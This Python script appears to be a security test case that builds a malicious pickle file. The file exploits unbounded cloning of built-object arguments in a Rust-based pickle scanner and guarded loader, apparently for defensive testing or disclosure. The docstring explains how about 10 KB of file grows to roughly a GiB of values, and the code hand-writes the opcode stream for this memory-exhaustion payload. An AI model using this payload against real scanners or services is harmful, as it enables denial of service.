"""s9: a built object's arguments are copied whole into every conversion that meets it, outside
the MAX_NODES budget: graph.rs `convert` (`Node::Built` -> `(**args).clone()`) in the scan, and
the same in the runtime (value.rs `Origin::Built`, provenance.rs `to_value` clones
`built.args`). So one application whose arguments are a list of K references to one built
object F (2 bytes of file per reference, through the memo) converts K x |args(F)| values:
4096 x 4096 = 16.7 M values (about a GiB) from ~10 KB of file, and a second level multiplies
again. Both the scan and the GUARDED load blow up; the unguarded load takes milliseconds.

F = frozenset(([0..4094],)) (pack ml, items-from-literals); L = [F] * K;
collections.deque((L,)) (pack stdlib-data, items-from-literals) is applied LEVELS times, each
level's deque list holding K references to the previous level's result.

    s9_built_args_cloned_unbounded.py build FILE   (K from S9_K, default 4000; LEVELS from S9_LEVELS, default 1)
"""
import os
import struct
import sys

K = int(os.environ.get("S9_K", "4000"))
LEVELS = int(os.environ.get("S9_LEVELS", "1"))
PACKS = "ml,stdlib-data"
USE = "print(len(obj))"


def build(path, k=None, levels=None):
    k = K if k is None else k
    levels = LEVELS if levels is None else levels
    out = bytearray(b"\x80\x02cbuiltins\nfrozenset\nq\x00")
    out += b"(]("
    for i in range(4095):
        out += b"J" + struct.pack("<i", i)
    out += b"etR"  # frozenset(([0..4094],))
    out += b"q\x01"  # memo 1: F
    out += b"0ccollections\ndeque\nq\x02"  # memo 2: deque
    prev = 1
    for level in range(levels):
        out += b"h\x02(]("  # deque, MARK, list, MARK
        out += (b"h" + bytes([prev])) * k  # K references
        out += b"etR"  # deque(([F]*K,))
        nxt = 3 + level
        out += b"q" + bytes([nxt])
        out += b"0"
        prev = nxt
    out += b"h" + bytes([prev]) + b"."
    with open(path, "wb") as f:
        f.write(out)


if __name__ == "__main__" and sys.argv[1] == "build":
    build(sys.argv[2])
